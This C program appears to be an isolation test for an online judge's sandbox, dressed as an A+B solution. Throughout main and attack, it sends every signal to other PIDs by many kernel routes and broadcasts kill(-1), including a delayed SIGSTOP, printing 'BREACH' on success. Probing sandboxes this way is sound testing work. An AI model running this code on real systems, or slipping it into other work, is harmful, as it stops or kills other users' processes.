#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static long mine;

static void check(const char *way, long pid, int number, long result) {
  if (result == 0 && number) printf("BREACH %s: signal %d to %ld\n", way, number, pid);
}

static void attack(long pid) {
  int pidfd = syscall(SYS_pidfd_open, pid, 0), pipes[2];
  for (int number = 1; number <= 64; number++) {
    siginfo_t info = {.si_signo = number, .si_code = SI_QUEUE};
    check("kill", pid, number, kill(pid, number));
    if (pid > 1) check("kill of a group", pid, number, kill(-pid, number));
    check("tgkill", pid, number, syscall(SYS_tgkill, pid, pid, number));
    check("tkill", pid, number, syscall(SYS_tkill, pid, number));
    check("rt_sigqueueinfo", pid, number, syscall(SYS_rt_sigqueueinfo, pid, number, &info));
    check("rt_tgsigqueueinfo", pid, number, syscall(SYS_rt_tgsigqueueinfo, pid, pid, number, &info));
    if (pidfd >= 0) check("pidfd", pid, number, syscall(SYS_pidfd_send_signal, pidfd, number, NULL, 0));
    struct sigevent event = {.sigev_notify = SIGEV_SIGNAL | 4, .sigev_signo = number};
    event._sigev_un._tid = pid;
    timer_t timer;
    check("timer", pid, number, timer_create(CLOCK_MONOTONIC, &event, &timer));
  }
  /* The kernel takes these, and must look at the sender when the signal is due. */
  if (pipe(pipes) == 0) {
    fcntl(pipes[0], F_SETOWN, pid);
    fcntl(pipes[0], F_SETSIG, SIGKILL);
    fcntl(pipes[0], F_SETFL, O_ASYNC | O_NONBLOCK);
    if (write(pipes[1], "x", 1) == 1) usleep(100);
    close(pipes[0]);
    close(pipes[1]);
  }
}

/* In a namespace of its own the first process is the job's own warden: who harms it harms the job alone. */
static int first_of_others(void) {
  char self[16] = "";
  if (readlink("/proc/self", self, sizeof self - 1) < 0) return 1;
  return atoi(self) == getpid() ? 1 : 2;
}

int main(void) {
  long a, b;
  if (scanf("%ld %ld", &a, &b) != 2) return 1;
  mine = getpid();
  for (long pid = first_of_others(); pid < 400; pid++)
    if (pid != mine) attack(pid);
  if (getppid() >= first_of_others()) attack(getppid());
  for (int number = 1; number <= 64; number++) {
    signal(number, SIG_IGN);
    if (number != SIGKILL && number != SIGSTOP && number != 32 && number != 33) {
      kill(0, number);
      kill(-1, number);
    }
  }
  long parent = getpid();
  if (fork() == 0) {
    setpgid(0, 0);
    while (getppid() == parent) usleep(100); /* or it would stop the program itself, before that has answered */
    kill(-1, SIGSTOP);
    pause();
  }
  printf("%ld\n", a + b);
}
